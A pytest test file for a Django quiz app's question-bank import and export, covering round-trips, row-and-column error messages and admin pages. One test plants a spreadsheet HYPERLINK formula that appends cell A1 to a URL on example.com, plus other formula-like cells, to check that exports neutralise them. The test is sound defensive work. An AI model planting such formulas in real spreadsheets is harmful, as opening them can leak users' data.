"""Question banks: quizzes out to CSV, XLSX and JSON and back with every field, bad files
refused whole with errors naming row and column, the template file, the admin's pages."""

import csv
import io
import re

import openpyxl
import pytest
import tablib
from django.contrib.auth.models import User
from django.core.files.base import ContentFile
from django.urls import reverse

from quizzes import banks, services
from quizzes.models import Choice, Question, Quiz
from quizzes.sample import load_sample_quiz
from quizzes.sample_pictures import clock
from tests.support.quizzes import make_quiz, make_quiz_of_every_kind

pytestmark = pytest.mark.django_db
Kind = Question.Kind


def richest_quiz() -> Quiz:
    """Every kind, with every kind-specific field away from its default somewhere: two
    spellings, tolerance and accents, two right sentences, pictures on the prompt and on
    every choice, and a description over two lines."""
    quiz = make_quiz_of_every_kind()
    quiz.description, quiz.accent = "Words for B1.\nSecond line, with “quotes”, commas; and | a bar.", Quiz.Accent.AU
    quiz.save()
    questions = {q.kind: q for q in quiz.questions.all()}
    typed = questions[Kind.TYPED]
    typed.accepted_answers, typed.typo_tolerance, typed.typo_penalty_percent = "colour\ncolor", 2, 40
    typed.ignore_accents, typed.speed_points, typed.points, typed.time_limit_seconds = False, False, 500, 45
    typed.save()
    order = questions[Kind.ORDER]
    order.accepted_answers = "She has lived here since 2010.\nSince 2010 she has lived here."
    order.save()
    pictured = Question.objects.create(quiz=quiz, order=6, kind=Kind.PICTURE, prompt="Which is 9 o'clock?",
                                       points=0, time_limit_seconds=240)
    for n, hour in enumerate((9, 3, 6)):
        choice = Choice(question=pictured, order=n, text=f"Clock {n + 1}", is_correct=n == 0)
        choice.image.save(f"bank-{quiz.pk}-{hour}.png", ContentFile(clock(hour, 0)), save=False)
        choice.save()
    assert services.quiz_problems(quiz) == []
    return quiz


def snapshot(quiz: Quiz) -> dict:
    """Every field of a quiz, its questions and their choices (ids aside)."""
    quiz.refresh_from_db()
    return {
        "quiz": (quiz.title, quiz.description, quiz.accent),
        "questions": [
            {"order": q.order, "kind": q.kind, "prompt": q.prompt, "image": q.image.name,
             "accepted_answers": q.accepted_answers, "typo_tolerance": q.typo_tolerance,
             "typo_penalty_percent": q.typo_penalty_percent, "ignore_accents": q.ignore_accents,
             "time_limit_seconds": q.time_limit_seconds, "points": q.points, "speed_points": q.speed_points,
             "choices": [(c.order, c.text, c.image.name, c.is_correct) for c in q.choices.all()]}
            for q in quiz.questions.all()
        ],
    }


def as_bytes(data) -> bytes:
    return data.encode("utf-8") if isinstance(data, str) else data


@pytest.mark.parametrize("file_format", ["csv", "xlsx", "json"])
def test_a_quiz_of_every_kind_goes_out_and_comes_back_with_every_field(file_format):
    quiz = richest_quiz()
    before = snapshot(quiz)
    data = as_bytes(banks.bank_export(quizzes=Quiz.objects.filter(pk=quiz.pk), file_format=file_format))
    quiz.delete()
    assert not Question.objects.exists()

    result = banks.bank_import(data=data, file_format=file_format)
    assert banks.import_problems(result) == []
    imported = Quiz.objects.get()
    assert snapshot(imported) == before
    assert {q.kind for q in imported.questions.all()} == set(Kind.values)
    assert services.session_create(quiz=imported).pk  # playable, by the session's own rules


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_a_cell_that_starts_like_a_formula_goes_out_inert_and_comes_back_as_it_was(file_format):
    """A spreadsheet opening an exported bank runs no formula a question's author wrote."""
    quiz = make_quiz(questions=1)
    quiz.description = "@SUM(1+1)"
    quiz.save()
    question = quiz.questions.get()
    question.prompt = '=HYPERLINK("http://example.com/?"&A1, "Click")'
    question.save()
    texts = ["+1", "-ing", "'quoted", "''=twice"]
    for choice, text in zip(question.choices.all(), texts):
        choice.text = text
        choice.save()
    before = snapshot(quiz)
    data = as_bytes(banks.bank_export(quizzes=Quiz.objects.filter(pk=quiz.pk), file_format=file_format))

    if file_format == "xlsx":
        sheet = openpyxl.load_workbook(io.BytesIO(data)).active
        cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
        assert all(cell.data_type != "f" for cell in cells)
        written = [cell.value for cell in cells]
    else:
        written = [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]
    unsafe = [cell for cell in written if isinstance(cell, str) and cell.startswith(("=", "+", "-", "@"))]
    assert unsafe == [], unsafe
    assert {"'" + question.prompt, "'+1", "'-ing", "''quoted", "'''=twice", "'@SUM(1+1)"} <= set(written), written

    quiz.delete()
    result = banks.bank_import(data=data, file_format=file_format)
    assert banks.import_problems(result) == []
    assert snapshot(Quiz.objects.get()) == before


def test_importing_a_quiz_onto_itself_updates_it_in_place():
    quiz = richest_quiz()
    before, ids = snapshot(quiz), list(quiz.questions.values_list("pk", flat=True))
    data = as_bytes(banks.bank_export(quizzes=Quiz.objects.filter(pk=quiz.pk), file_format="csv"))
    result = banks.bank_import(data=data, file_format="csv")
    assert banks.import_problems(result) == []
    assert {row.import_type for row in result.rows} == {"update"}
    assert snapshot(quiz) == before and list(quiz.questions.values_list("pk", flat=True)) == ids


def test_an_edited_file_changes_the_quiz_and_adds_questions():
    quiz = richest_quiz()
    dataset = banks.QuestionBankResource().export(queryset=Quiz.objects.filter(pk=quiz.pk))
    rows = dataset.dict
    rows[0]["choice_4"] = "huge"
    rows[0]["correct"] = 4
    rows.append({**rows[2], "number": 8, "prompt": "Type “centre” the American way.", "accepted_answers": "center"})
    edited = tablib.Dataset(headers=dataset.headers)
    for row in rows:
        edited.append([row[h] for h in dataset.headers])
    result = banks.bank_import(data=edited.export("csv").encode(), file_format="csv")
    assert banks.import_problems(result) == []
    first, *_, last = quiz.questions.all()
    assert [c.text for c in first.choices.all()][-1] == "huge" and first.choices.get(is_correct=True).text == "huge"
    assert quiz.questions.count() == 8 and last.accepted_answers == "center" and last.order == 7


def template_rows() -> list[dict]:
    banks.template_picture_stored()
    return banks.template_dataset().dict


def csv_of(rows: list[dict], headers: list[str] | None = None) -> bytes:
    headers = headers or banks.COLUMNS
    dataset = tablib.Dataset(headers=headers)
    for row in rows:
        dataset.append([row.get(h, "") for h in (headers if headers != banks.COLUMNS else banks.COLUMNS)])
    return dataset.export("csv").encode()


def refused(data: bytes, file_format: str = "csv") -> list[str]:
    """The problems an import reports; and nothing of the file was saved."""
    quizzes, questions, choices = Quiz.objects.count(), Question.objects.count(), Choice.objects.count()
    result = banks.bank_import(data=data, file_format=file_format)
    assert (Quiz.objects.count(), Question.objects.count(), Choice.objects.count()) == (quizzes, questions, choices)
    assert result.has_errors() or result.has_validation_errors()
    return banks.import_problems(result)


def test_the_template_has_one_question_of_each_kind_and_imports_as_it_is():
    rows = template_rows()
    assert [row["kind"] for row in rows] == list(Kind.values)
    result = banks.bank_import(data=csv_of(rows), file_format="csv")
    assert banks.import_problems(result) == []
    quiz = Quiz.objects.get(title="My question bank")
    assert quiz.accent == Quiz.Accent.GB and services.quiz_problems(quiz) == []
    assert quiz.questions.get(kind=Kind.ORDER).accepted_answers == (
        "She has lived here since 2010.\nSince 2010 she has lived here.")


@pytest.mark.parametrize("row, column, value, expected", [
    (3, "kind", "essay", "Row 3, column kind: Unknown kind “essay”"),
    (1, "correct", "", "Row 1, column correct: It needs exactly one correct choice."),
    (1, "correct", "7", "Row 1, column correct: There is no choice 7"),
    (2, "number", "two", "Row 2, column number: “two” is not a whole number."),
    (2, "number", "0", "Row 2, column number: Questions are numbered from 1"),
    (5, "image", "questions/nowhere.png", "Row 5, column image: No picture named “questions/nowhere.png”"),
    (4, "choice_2", "", "Row 4, column choice_1: It needs 2 to 6 choices."),
    (3, "accepted_answers", "", "Row 3, column accepted_answers: It needs at least one accepted answer."),
    (6, "time_limit_seconds", "1", "Row 6, column time_limit_seconds: Ensure this value is greater than"),
    (6, "speed_points", "maybe", "Row 6, column speed_points: “maybe” is neither yes nor no"),
    (1, "accent", "fr-FR", "Row 1, column accent: Unknown accent “fr-FR”"),
    (2, "prompt", "", "Row 2, column prompt: This field cannot be blank."),
])
def test_a_bad_row_is_named_by_row_and_column_and_nothing_of_the_file_is_saved(row, column, value, expected):
    rows = template_rows()
    rows[row - 1][column] = value
    problems = refused(csv_of(rows))
    assert any(problem.startswith(expected) for problem in problems), problems


def test_a_question_twice_in_a_file_is_refused():
    rows = template_rows()
    rows[3]["number"] = 2
    assert refused(csv_of(rows)) == ["Row 4, column number: Row 2 is question 2 of “My question bank” already."]


def test_a_wrong_or_missing_column_is_named_and_no_row_is_read():
    rows = template_rows()
    headers = ["question" if h == "prompt" else h for h in banks.COLUMNS]
    dataset = tablib.Dataset(headers=headers)
    for row in rows:
        dataset.append([row[h] for h in banks.COLUMNS])
    problems = refused(dataset.export("csv").encode())
    assert problems == [f"Unknown column “question”. The columns are: {', '.join(banks.COLUMNS)}."]
    without = tablib.Dataset(headers=[h for h in banks.COLUMNS if h != "kind"])
    for row in rows:
        without.append([row[h] for h in banks.COLUMNS if h != "kind"])
    assert refused(without.export("csv").encode()) == [
        "The column “kind” is missing (needed: quiz, number, kind, prompt)."]


@pytest.mark.parametrize("file_format, data", [
    ("xlsx", b"\x89PNG\r\n\x1a\n not a workbook"),
    ("xlsx", "quiz,number\nA,1\n".encode()),
    ("json", b"this is not json"),
    ("csv", b""),
])
def test_a_file_that_is_not_a_spreadsheet_is_refused_with_nothing_saved(file_format, data):
    with pytest.raises(banks.BankError) as error:
        banks.bank_import(data=data, file_format=file_format)
    assert file_format.upper() in error.value.message and not Quiz.objects.exists()


def test_a_choice_answered_in_a_past_session_cannot_be_dropped_by_a_file():
    quiz = richest_quiz()
    session = services.session_create(quiz=quiz)
    player = services.participant_join(code=session.code, nickname="ann")
    services.session_next(session_id=session.pk)
    session.refresh_from_db()
    last = session.current_round.question.choices.order_by("order").last()
    services.answer_submit(participant_id=player.pk, session_id=session.pk, choice_id=last.pk)
    rows = banks.QuestionBankResource().export(queryset=Quiz.objects.filter(pk=quiz.pk)).dict
    rows[0]["choice_3"], rows[0]["correct"] = "", 2
    before = snapshot(quiz)
    problems = refused(csv_of(rows))
    assert problems == [f"Row 1, column choice_1: “{last.text}” has answers from past sessions and cannot be removed."]
    assert snapshot(quiz) == before


# Through the admin and the template's download


@pytest.fixture
def admin_client(client):
    client.force_login(User.objects.create_superuser("boss", password="a-long-pass"))
    return client


def test_the_template_downloads_as_csv_and_xlsx_for_staff_only(admin_client, client):
    response = admin_client.get(reverse("quizzes:bank_template_csv"))
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert [row["kind"] for row in tablib.Dataset().load(response.content.decode(), format="csv").dict] == list(
        Kind.values)
    response = admin_client.get(reverse("quizzes:bank_template_xlsx"))
    book = tablib.Dataset().load(io.BytesIO(response.content).read(), format="xlsx")
    assert book.headers == banks.COLUMNS and len(book) == 6
    admin_client.logout()
    assert client.get(reverse("quizzes:bank_template_csv")).status_code == 302


def _form_fields(html: str) -> dict[str, str]:
    return dict(re.findall(r'<input type="hidden" name="([^"]+)" value="([^"]*)"', html))


def _admin_import(admin_client, data: bytes, name: str = "bank.csv"):
    page = admin_client.get(reverse("admin:quizzes_quiz_import")).content.decode()
    csv_index = re.search(r'<option value="(\d+)">csv</option>', page, re.IGNORECASE).group(1)
    upload = ContentFile(data, name=name)
    return admin_client.post(reverse("admin:quizzes_quiz_import"), {"import_file": upload, "format": csv_index})


def test_the_admin_imports_after_a_dry_run_and_a_confirmation(admin_client):
    page = admin_client.get(reverse("admin:quizzes_quiz_import")).content.decode()
    assert reverse("quizzes:bank_template_csv") in page
    preview = _admin_import(admin_client, csv_of(template_rows()))
    assert preview.status_code == 200 and not Quiz.objects.exists()  # the dry run saved nothing
    confirm = _form_fields(preview.content.decode())
    assert "import_file_name" in confirm
    done = admin_client.post(reverse("admin:quizzes_quiz_process_import"), confirm)
    assert done.status_code == 302
    assert Quiz.objects.get().questions.count() == 6


def test_the_admin_shows_a_bad_rows_row_and_column_and_offers_no_confirmation(admin_client):
    rows = template_rows()
    rows[2]["kind"] = "essay"
    page = _admin_import(admin_client, csv_of(rows)).content.decode()
    assert "essay" in page and "import_file_name" not in page and not Quiz.objects.exists()
    assert re.search(r"<td>3 </td>", page) and 'validation-error-field-label">kind<' in page


def test_the_admin_exports_the_quizzes_as_a_bank(admin_client):
    quiz = richest_quiz()
    page = admin_client.get(reverse("admin:quizzes_quiz_export")).content.decode()
    csv_index = re.search(r'<option value="(\d+)">csv</option>', page, re.IGNORECASE).group(1)
    fields = {f"questionbankresource_{c}": "on" for c in banks.COLUMNS}
    response = admin_client.post(reverse("admin:quizzes_quiz_export"), {"format": csv_index, "resource": 0, **fields})
    assert response.status_code == 200, response.content[:2000]
    exported = tablib.Dataset().load(response.content.decode("utf-8-sig"), format="csv")
    assert exported.headers == banks.COLUMNS and len(exported) == quiz.questions.count()


def test_an_upload_awaits_its_confirmation_in_redis_for_any_replica_and_then_goes():
    kept = banks.UploadAwaitingConfirmation(encoding="utf-8-sig", read_mode="r")
    kept.save("quiz,number\n".encode("utf-8-sig"))
    elsewhere = banks.UploadAwaitingConfirmation(name=kept.name, encoding="utf-8-sig", read_mode="r")
    assert elsewhere.read() == "quiz,number\n"
    elsewhere.remove()
    with pytest.raises(banks.BankError):
        elsewhere.read()


def test_the_admins_preview_shows_each_rows_choices(admin_client):
    page = _admin_import(admin_client, csv_of(template_rows())).content.decode()
    assert "A quarter to eight" in page and "Make it quieter." in page


def test_the_sample_quiz_goes_out_and_comes_back_whole():
    quiz = load_sample_quiz()
    before = snapshot(quiz)
    data = banks.bank_export(quizzes=Quiz.objects.filter(pk=quiz.pk), file_format="xlsx")
    quiz.delete()
    assert banks.import_problems(banks.bank_import(data=data, file_format="xlsx")) == []
    assert snapshot(Quiz.objects.get()) == before
